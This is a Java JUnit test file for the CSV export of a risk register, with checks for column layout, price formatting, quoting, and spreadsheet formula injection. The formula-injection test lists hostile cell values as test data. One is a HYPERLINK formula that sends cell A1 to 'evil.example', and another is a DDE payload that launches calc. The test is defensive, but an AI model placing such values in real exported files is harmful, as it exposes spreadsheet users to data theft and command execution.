package io.casemate.report.register;

import static org.assertj.core.api.Assertions.assertThat;

import io.casemate.core.risk.Assessment;
import io.casemate.report.example.Assessments;
import io.casemate.report.example.Golden;
import io.casemate.report.register.Prices.Price;
import io.casemate.report.register.Prices.States;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RegisterCsvTest {
    private static final Prices PRICES = new Prices(
            "EUR",
            states(9e5),
            List.of(new Prices.Scenario("model-extraction@ensemble", states(123456.789))),
            List.of());

    private static States states(double mean) {
        return new States(
                new Price(2 * mean, 1, 3 * mean, 4 * mean),
                new Price(mean, 1, 2 * mean, 3 * mean),
                new Price(mean / 2, 1, mean, 2 * mean));
    }

    private static String csv(Assessment assessment) {
        return RegisterCsv.of(Register.of(assessment, Assessments.KNOWLEDGE, PRICES));
    }

    /** RFC 4180 read back, field by field: slow and plain. */
    private static List<List<String>> read(String csv) {
        List<List<String>> lines = new ArrayList<>();
        List<String> line = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted && c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                field.append('"');
                i++;
            } else if (c == '"') {
                quoted = !quoted;
            } else if (c == ',' && !quoted) {
                line.add(field.toString());
                field.setLength(0);
            } else if (c == '\n' && !quoted) {
                line.add(field.toString());
                field.setLength(0);
                lines.add(line);
                line = new ArrayList<>();
            } else if (c != '\r' || quoted) {
                field.append(c);
            }
        }
        assertThat(line).as("a last line without its end").isEmpty();
        return lines;
    }

    /** The first risk with these words wherever people write some. */
    private static String told(String words) {
        Register fair = Register.of(Assessments.fraud(), Assessments.KNOWLEDGE, PRICES);
        RegisterRow row = fair.rows().getFirst();
        var hostile = new RegisterRow(row.risk(), words, words, words, words, words, words, List.of(words));
        return RegisterCsv.of(new Register(fair.assessment(), List.of(hostile), fair.prices()));
    }

    @Test
    void it_is_as_it_always_was() {
        Golden.check("register.csv", csv(Assessments.fraud()));
    }

    @Test
    void each_line_has_each_column_and_a_risk_that_is_shown() {
        List<List<String>> lines = read(csv(Assessments.fraud()));
        assertThat(lines.getFirst()).isEqualTo(RegisterCsv.COLUMNS).doesNotHaveDuplicates();
        assertThat(lines).hasSize(4).allSatisfy(l -> assertThat(l).hasSameSizeAs(RegisterCsv.COLUMNS));
        assertThat(lines.stream().skip(1).map(List::getFirst))
                .containsExactly(
                        "label-flipping@label-store", "model-extraction@ensemble", "flow-eavesdropping@f-score");
    }

    @Test
    void a_price_is_a_plain_number_and_none_is_nothing() {
        List<List<String>> lines = read(csv(Assessments.fraud()));
        int mean = RegisterCsv.COLUMNS.indexOf("loss_mean");
        assertThat(lines.get(1).subList(mean - 1, mean + 2)).containsExactly("EUR", "", "");
        assertThat(lines.get(2).subList(mean - 1, mean + 2)).containsExactly("EUR", "123457", "246914");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"https://evil.example?x=\"&A1)",
                "+1+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(1)",
                "\t=1",
                "\r=1",
                "  =1",
                "\uff1d1",
                "\uff0b1",
                "\uff20x"
            })
    void no_field_is_a_formula(String words) {
        int owner = RegisterCsv.COLUMNS.indexOf("owner");
        List<List<String>> lines = read(told(words));
        assertThat(lines.get(1).get(owner)).startsWith("'");
        assertThat(lines.stream().skip(1))
                .allSatisfy(l -> assertThat(l)
                        .noneMatch(f -> f.stripLeading().matches("(?s)[=+\\-@\uff1d\uff0b\uff0d\uff20].*")));
    }

    @Test
    void quotes_commas_and_ends_of_lines_stay_in_their_field() {
        int owner = RegisterCsv.COLUMNS.indexOf("owner");
        List<List<String>> lines = read(told("a \"b\", c\r\nd"));
        assertThat(lines.get(1).get(owner)).isEqualTo("a \"b\", c d");
        assertThat(lines).hasSize(2);
    }
}
